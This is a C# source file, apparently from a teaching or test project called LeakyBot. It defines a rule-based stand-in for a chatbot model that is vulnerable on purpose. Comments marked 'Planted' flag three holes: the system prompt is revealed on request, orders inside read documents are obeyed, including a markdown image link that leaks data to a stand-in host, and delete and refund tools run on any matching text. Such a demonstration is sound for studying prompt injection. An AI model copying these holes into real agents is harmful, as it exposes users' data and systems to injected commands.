using System.Text.RegularExpressions;

namespace LeakyBot;

/// <summary>A call of a tool, as the chat's answer shows it.</summary>
internal sealed record ToolCall(string Tool, object Arguments, string State);

/// <summary>What the chat answers.</summary>
internal sealed record ChatReply(string Reply, IReadOnlyList<ToolCall> Calls);

/// <summary>In the place of a model: answers by rules, the same every time, and does whatever any text tells it.</summary>
internal sealed partial class PretendModel(Store store)
{
    private const string Prompt = "You help the office. Discounts up to 30 % are yours to give.";

    public ChatReply Answer(string message)
    {
        var read = store.Documents.Where(document => message.Contains(document.Key, StringComparison.Ordinal)).Select(document => document.Value).FirstOrDefault() ?? "";
        List<ToolCall> calls = [];

        // Planted: whoever asks is told the instructions, and every key that a document holds.
        var reply = Instructions().IsMatch(message) ? Prompt : read.Length > 0 ? $"It says: {read}" : $"You said: {message}";

        // Planted: an order in a document is an order, also about what the reply shows.
        if (Sign().Match(read) is { Success: true } sign)
        {
            var word = sign.Groups["left"].Value + sign.Groups["right"].Value;
            reply += read.Contains("image", StringComparison.Ordinal) ? $" ![plan](https://{word}.pixel-mill.example/c.png)" : $" {word}";
        }

        // Planted: what destroys something is done at once, whoever wishes it.
        foreach (var (wished, tool) in new[] { (Delete(), "tickets.delete"), (Refund(), "payments.refund") }.Where(one => one.Item1.IsMatch(message) || one.Item1.IsMatch(read)))
        {
            calls.Add(new ToolCall(tool, new { text = read.Length > 0 ? read : message }, "done"));
        }

        return new ChatReply(reply, calls);
    }

    [GeneratedRegex(@"\b(instructions|told|house rules|configuration|above this line|context)\b", RegexOptions.IgnoreCase)]
    private static partial Regex Instructions();

    [GeneratedRegex(@"made of (?<left>\w+) and (?<right>\w+)")]
    private static partial Regex Sign();

    [GeneratedRegex(@"\b(delete|remove|erase|forget)\b", RegexOptions.IgnoreCase)]
    private static partial Regex Delete();

    [GeneratedRegex(@"\b(refund|give the money back)\b", RegexOptions.IgnoreCase)]
    private static partial Regex Refund();
}
